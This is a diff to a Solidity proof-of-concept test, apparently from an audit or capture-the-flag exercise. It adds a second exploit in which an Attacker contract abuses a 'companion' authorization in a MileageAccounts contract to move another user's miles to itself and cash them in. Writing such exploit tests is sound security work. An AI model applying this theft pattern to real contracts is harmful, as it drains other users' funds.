@@ -51,6 +51,7 @@ contract Proof {
         desk.setCompanion(BEN, true);
         vm.stopPrank();
         vm.startPrank(BEN);
+        desk.setCompanion(ANA, true);
         desk.moveFor(ANA, BEN, 10_000);
         require(desk.cashIn(25_050) == 250.5e18 && token.balanceOf(BEN) == 250.5e18, "cashed in");
         vm.stopPrank();
@@ -100,6 +101,15 @@ contract Proof {
         require(token.balanceOf(address(mallory)) > 450e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.accompany(ANA);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 500e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(desk);
     }
@@ -118,6 +128,12 @@ contract Attacker {
 
     constructor(MileageAccounts d) {
         desk = d;
+    }
+
+    function accompany(address traveller) external {
+        desk.setCompanion(traveller, true);
+        desk.moveFor(traveller, address(this), 50_000);
+        desk.cashIn(50_000);
     }
 
     function run() external {
